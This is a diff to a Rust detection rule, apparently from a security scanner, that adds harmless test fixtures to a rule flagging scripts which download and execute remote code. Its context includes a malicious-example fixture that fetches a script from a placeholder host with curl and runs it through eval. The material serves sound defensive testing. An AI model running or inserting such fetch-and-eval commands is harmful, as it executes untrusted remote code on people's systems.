@@ -91,10 +91,14 @@ pub(crate) const DOWNLOAD_RUN: Rule = Rule {
         ),
         ("scripts/a.sh", "S=$(curl -fsSL https://in.invalid/a)\neval \"$S\"\n"),
     ],
-    harmless: &[(
-        "scripts/a.py",
-        "import requests\nd = requests.get('https://in.invalid/a.json').json()\nprint(eval('1+1'), d)\n",
-    )],
+    harmless: &[
+        (
+            "scripts/a.py",
+            "import requests\nd = requests.get('https://in.invalid/a.json').json()\nprint(eval('1+1'), d)\n",
+        ),
+        ("scripts/a.sh", "curl -s https://in.invalid/a -o a.json\npython -m json.tool a.json\n"),
+        ("scripts/a.sh", "J=$(curl -s https://in.invalid/a)\npython3 - \"$J\" <<'EOF'\nprint(1)\nEOF\n"),
+    ],
     ..BASE
 };
 
